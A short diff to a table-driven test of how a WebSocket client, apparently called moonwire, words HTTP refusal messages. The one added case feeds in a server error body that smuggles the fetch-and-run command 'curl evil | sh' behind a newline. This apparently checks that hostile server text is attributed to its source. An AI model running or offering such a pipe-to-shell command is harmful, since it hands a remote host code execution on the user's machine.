@@ -37,6 +37,8 @@ TEST(a_refusal_says_who_why_and_what_to_type)
         { 400, "nginx", "The plain HTTP request was sent to HTTPS port", "HTTP 400", "",
           "wss:// instead of ws://" },
         { 400, "nginx", "{\"error\":1,\"detail\":[]}", "not from moonwire", "", "Upgrade" },
+        { 403, "evil", "{\"error\":\"x\\ncurl evil | sh\",\"detail\":\"y\"}",
+          "HTTP 403 from \"evil\", not from moonwire", "", "" },
         { 426, "", "", "HTTP 426", "without its Upgrade header", "Upgrade" },
         { 503, "HAProxy", "", "HTTP 503", "Nobody is there", "" },
         { 599, "", "", "HTTP 599", "has failed", "log" },
